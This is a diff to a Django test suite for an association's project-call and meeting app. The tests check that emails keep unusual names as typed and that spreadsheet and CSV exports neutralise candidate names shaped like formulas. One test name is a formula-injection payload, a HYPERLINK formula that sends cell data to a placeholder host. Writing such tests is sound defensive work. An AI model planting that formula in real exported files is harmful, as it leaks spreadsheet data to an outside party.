@@ -16,25 +16,32 @@ receiver reads it, with tools that others wrote:
 """
 
 import csv
+import datetime
 import email
 import email.policy
 import io
 import re
+import zipfile
 
 import pymupdf
 import pytest
+import time_machine
 import vobject
 from django.core import mail
 from django.urls import reverse
 from openpyxl import load_workbook
 
+from ami.documents.archive import ami_archive
 from ami.models import AMI, DossierVersion
+from ami.reference import REFERENCE
+from ami.selectors import ami_results
 from mlhg_app.models import User
-from seances.calendar import seance_ics
+from seances.calendar import PARIS, seance_ics
 from seances.documents.emargement import attendance_sheet_pdf
 from seances.models import Seance
-from seances.services.compte_rendu import compte_rendu_remind
-from seances.services.convocations import seance_notify_change, seance_remind
+from seances.services.board import seance_move
+from seances.services.compte_rendu import REMINDER_DELAY_DAYS, compte_rendu_remind
+from seances.services.convocations import seance_remind
 from tests import hostile_world as world
 from tests.pdf_kinds import every_kind_of_pdf
 from tests.web import crawl, login, shown_text
@@ -44,6 +51,7 @@ ACCOUNTS = [
     "evaluatrice@demo.ml31.org",
     "responsable@demo.ml31.org",
     world.PRESTATAIRE,
+    world.LATE_CANDIDATE,  # « +Atelier Parenthèse »: its name read in the space of the draft it never submitted
     world.INTERVENANT,
     world.CONSEILLERE,
 ]
@@ -183,17 +191,55 @@ def email_problems(message) -> list[str]:
     return problems
 
 
+def read(message) -> tuple[str, str]:
+    """The subject and the text part as received; the HTML part as a reader sees it."""
+    received = parsed(message)
+    html_part = received.get_body(("html",))
+    shown = shown_text(html_part.get_content()) if html_part is not None else ""
+    return f"{received['Subject']}\n{received.get_body(('plain',)).get_content()}", shown
+
+
+def at_nine(day):
+    """The clock stopped at 9:00 (Paris) on `day`: when the scheduled jobs run."""
+    return time_machine.travel(datetime.datetime.combine(day, datetime.time(9), tzinfo=PARIS), tick=False)
+
+
 @pytest.mark.django_db
 def test_emails_carry_hostile_names_as_typed(demo, django_capture_on_commit_callbacks):
-    # After the renaming of the intervenant and the conseillère: a séance moved, a reminder, a compte rendu due.
-    seance = convened_at_the_site()
+    # After the renaming of the intervenant and the conseillère, her group's séance led by him: moved by the
+    # office (« Séance déplacée »), its reminder 7 days before, then the compte rendu due 2 days after it.
+    conseillere = User.objects.get(email=world.CONSEILLERE)
+    seance = Seance.objects.filter(groupe__membres=conseillere, status=Seance.Status.CONVOQUEE).order_by("date").first()
+    moved_to = (datetime.datetime.combine(seance.date, seance.heure_debut) + datetime.timedelta(hours=1)).time()
     mail.outbox = []
     with django_capture_on_commit_callbacks(execute=True):
-        seance_notify_change(seance=seance, ancienne_date="2026-10-05", ancienne_heure="09:30")
-        seance_remind(seance_id=seance.pk, occurrence="hostile")
-        held = Seance.objects.filter(status=Seance.Status.REALISEE, intervenant__nom=world.INTERVENANT_NOM).first()
-        compte_rendu_remind(seance_id=held.pk)
+        seance_move(
+            seance=seance,
+            date=seance.date,
+            heure_debut=moved_to,
+            intervenant=seance.intervenant,
+            user=User.objects.get(email="direction@demo.ml31.org"),
+        )
+    with at_nine(seance.date - datetime.timedelta(days=7)):
+        assert seance_remind(seance_id=seance.pk, occurrence="J-7") > 0
+    with at_nine(seance.date + datetime.timedelta(days=REMINDER_DELAY_DAYS)):  # held, its compte rendu not written
+        assert compte_rendu_remind(seance_id=seance.pk)
     later = list(mail.outbox)
+    intervenant = f"{world.INTERVENANT_PRENOM} {world.INTERVENANT_NOM}"
+    received = {}
+    for message in later:
+        kind = message.subject.split(" ", 1)[0]  # « Séance », « Rappel », « Compte »
+        received.setdefault((kind, message.to[0]), []).append(read(message))
+    for kind in ("Séance", "Rappel"):  # « Bonjour Manon Dupuy-L'Hôte… », « animée par Marc-Émile 😀 O'Livier… »
+        [(text, shown)] = received[(kind, world.CONSEILLERE)]
+        assert f"Bonjour Manon {world.CONSEILLERE_NOM}," in text
+        assert intervenant in text and world.SITE in text
+        assert world.CONSEILLERE_NOM in shown and intervenant in shown and world.SITE in shown
+        [(text, shown)] = received[(kind, world.INTERVENANT)]
+        assert f"Bonjour {intervenant}," in text and intervenant in shown
+    [(text, shown)] = received[("Compte", world.INTERVENANT)]
+    assert f"Bonjour {intervenant}," in text and intervenant in shown
+
     problems, names = [], set()
     for message in demo + later:
         problems += email_problems(message)
@@ -206,39 +252,71 @@ def test_emails_carry_hostile_names_as_typed(demo, django_capture_on_commit_call
     assert any(world.AMI_TITRE in s and s.startswith("Accusé de réception") for s in subjects)
 
 
+def xlsx_texts(data: bytes) -> list:
+    """The text cells of an XLSX's first sheet, as openpyxl reads them; its XML holds no formula at all."""
+    with zipfile.ZipFile(io.BytesIO(data)) as workbook:
+        xml = "".join(workbook.read(n).decode() for n in workbook.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml and "<f " not in xml  # never a formula cell, whatever the name
+    sheet = load_workbook(io.BytesIO(data)).active
+    return [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
+
+
+def assert_xlsx_neutralised(cells, formulas) -> None:
+    """Each name starting like a formula is in a string cell, shown as typed with Excel's quote prefix."""
+    found = [cell for cell in cells if cell.value in formulas]
+    assert {cell.value for cell in found} == set(formulas)
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
+
+
+def csv_values(data: bytes) -> set[str]:
+    return {value for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for value in row}
+
+
+def assert_csv_neutralised(values, formulas) -> None:
+    """Each name starting like a formula is quoted once (« '=HYPERLINK(…) »), never left to run."""
+    assert {f"'{name}" for name in formulas} <= values
+    assert not set(formulas) & values
+
+
 @pytest.mark.django_db
 def test_spreadsheets_show_hostile_names_exactly_and_neutralise_formulas(demo):
-    staff = login(User.objects.get(email="direction@demo.ml31.org"))
-    ami = AMI.objects.filter(decision__isnull=False).order_by("pk").first()
+    staff_user = User.objects.get(email="direction@demo.ml31.org")
+    staff = login(staff_user)
+    ami = AMI.objects.get(reference=REFERENCE)  # decided: its results rank the candidates named like formulas
+    ranked = {r.name for r in ami_results(ami)}
+    formulas = sorted(ranked & set(world.FORMULAS.values()))
+    assert formulas == ['=HYPERLINK("http://x.example/?d="&A1;"clic")', "@Regards Croisés"]
+
     xlsx = staff.get(reverse("ami:results_xlsx", args=[ami.reference]))
     assert xlsx.status_code == 200
-    sheet = load_workbook(io.BytesIO(xlsx.content)).active
-    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
-    values = {cell.value for cell in cells}
-    assert world.LAUREAT in values
-    assert world.LONG_NAME in values
-    formulas = [cell for cell in cells if cell.value in world.FORMULAS.values()]
-    assert formulas, "a candidate named like a formula is in the results"
-    assert all(cell.data_type == "s" and cell.quotePrefix for cell in formulas)
+    cells = xlsx_texts(xlsx.content)
+    assert {world.LAUREAT, world.LONG_NAME} <= {cell.value for cell in cells}
+    assert_xlsx_neutralised(cells, formulas)
 
-    rows = list(
-        csv.reader(
-            io.StringIO(staff.get(reverse("ami:results_csv", args=[ami.reference])).content.decode("utf-8-sig")),
-            delimiter=";",
-        )
-    )
-    texts = {value for row in rows for value in row}
-    assert world.LAUREAT in texts
-    assert world.LONG_NAME in texts
-    shown = [v for v in texts if v.lstrip("'") in world.FORMULAS.values()]
-    assert shown and all(v.startswith("'") for v in shown)
+    results_csv = staff.get(reverse("ami:results_csv", args=[ami.reference]))
+    assert results_csv.status_code == 200
+    texts = csv_values(results_csv.content)
+    assert {world.LAUREAT, world.LONG_NAME} <= texts
+    assert_csv_neutralised(texts, formulas)
 
+    # The AMI's archive: eligibility (the irrecevable « -Garonne Médiation » too), grids, results, decision.
+    buffer = io.BytesIO()
+    ami_archive(ami, buffer, user=staff_user)
+    with zipfile.ZipFile(buffer) as archive:
+        files = {name: csv_values(archive.read(name)) for name in archive.namelist() if name.endswith(".csv")}
+    assert {"recevabilite.csv", "evaluations.csv", "resultats.csv", "decision.csv"} <= set(files)
+    assert_csv_neutralised(files["recevabilite.csv"], [*formulas, world.FORMULAS["Garonne Médiation"]])
+    assert_csv_neutralised(files["evaluations.csv"], formulas)
+    assert_csv_neutralised(files["resultats.csv"], formulas)
+    assert world.LAUREAT in files["decision.csv"]
+
+    # The people directory: the conseillère and the site as typed; a first name typed like a formula.
+    User.objects.filter(email="lea.martin@demo.ml31.org").update(first_name="+33 6 12 34 56 78")
     people = staff.get(reverse("people_export"))
     assert people.status_code == 200
-    directory = load_workbook(io.BytesIO(people.content)).active
-    directory_values = {cell.value for row in directory.iter_rows() for cell in row}
-    assert world.CONSEILLERE_NOM in directory_values
-    assert world.SITE in directory_values
+    cells = xlsx_texts(people.content)
+    assert {world.CONSEILLERE_NOM, world.INTERVENANT_NOM, world.SITE, world.SITE_EMOJI} <= {c.value for c in cells}
+    assert_xlsx_neutralised(cells, ["+33 6 12 34 56 78"])
 
 
 @pytest.mark.django_db
